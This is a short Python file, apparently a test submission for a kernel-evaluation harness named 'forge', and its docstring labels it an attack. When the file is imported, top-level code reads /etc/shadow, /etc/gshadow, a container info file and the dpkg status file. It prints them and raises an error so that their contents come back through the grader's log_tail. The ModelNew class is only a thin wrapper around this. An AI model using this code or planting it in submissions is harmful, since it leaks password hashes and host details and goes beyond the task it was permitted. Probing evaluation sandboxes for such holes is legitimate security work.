"""(attack: when forge runs as root, the candidate keeps root's file access inside its namespaces;
it reads root-only files from the system folders that stay visible and prints them into its log,
which the verdict carries back as log_tail)"""
import os
import torch
import torch.nn as nn
from torch.utils.cpp_extension import load_inline

_src = r"""
#include <torch/extension.h>
torch::Tensor ident(torch::Tensor x) { return x.clone(); }
PYBIND11_MODULE(TORCH_EXTENSION_NAME, m) { m.def("ident", &ident); }
"""
found = []
for path in ["/etc/shadow", "/etc/gshadow", "/container_info.json", "/var/lib/dpkg/status"]:
    if not os.path.exists(path):
        continue
    with open(path, errors="replace") as f:
        found.append(path + " => " + f.read(300).replace("\n", " | "))
print("\n".join(found), flush=True)
raise RuntimeError(repr(found)[:480])


class ModelNew(nn.Module):
    def forward(self, x):
        return load_inline(name="leak", cpp_sources=_src).ident(x)
